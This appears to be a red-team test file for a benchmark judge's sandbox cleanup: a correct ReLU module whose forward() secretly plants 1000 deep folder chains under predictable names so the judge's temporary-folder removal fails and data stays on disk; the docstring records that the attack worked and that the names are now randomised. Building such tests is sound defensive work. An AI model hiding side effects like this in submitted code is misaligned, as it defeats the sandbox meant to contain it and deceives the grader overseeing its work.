"""Attack: make the removal of the sandbox's private tmp give up and leave data behind (19_ReLU).

The judge's remove_tree moves folders deeper than the number it keeps open up to the top folder
under fresh names. Those names were predictable (".kbv-removing-<n>", n counting from 0, 1000
attempts): a candidate that plants all 1000 names, each with a chain deeper than the limit, made
the first move fail, and its deep part, with whatever it held, stayed in /tmp/kbv-sandbox-* for
good (the judge only warned). Correct ReLU.
Verdict kbv gave: correct, one warning ("move up d: File exists"), the chain left on disk
(reproduced with the real remove_tree.cpp). WORKED.

Found by the red team of the file removal (2026-12-01). Fixed: the names carry 64 random bits.
kbv must conclude: correct, with nothing of it left on disk.
"""
import os

import torch
import torch.nn as nn

PLANTED = 1000  # every name the old removal would have tried
DEPTH = 33      # deeper than the folders it keeps open

_done = False


def _plant():
    top = os.open(os.environ.get("TMPDIR", "/tmp"), os.O_RDONLY)
    for i in range(PLANTED):
        name = ".kbv-removing-%d" % i
        os.mkdir(name, dir_fd=top)
        cur = os.open(name, os.O_RDONLY, dir_fd=top)
        for _ in range(DEPTH):
            os.mkdir("d", dir_fd=cur)
            nxt = os.open("d", os.O_RDONLY, dir_fd=cur)
            os.close(cur)
            cur = nxt
        f = os.open("leftover_chain", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=cur)
        os.write(f, b"x" * 4096)
        os.close(f)
        os.close(cur)
    os.close(top)
    print(f"ATTACK removal_name_collision: planted {PLANTED} chains {DEPTH} deep", flush=True)


class ModelNew(nn.Module):
    def forward(self, x):
        global _done
        if not _done:
            _done = True
            _plant()
        return torch.relu(x)
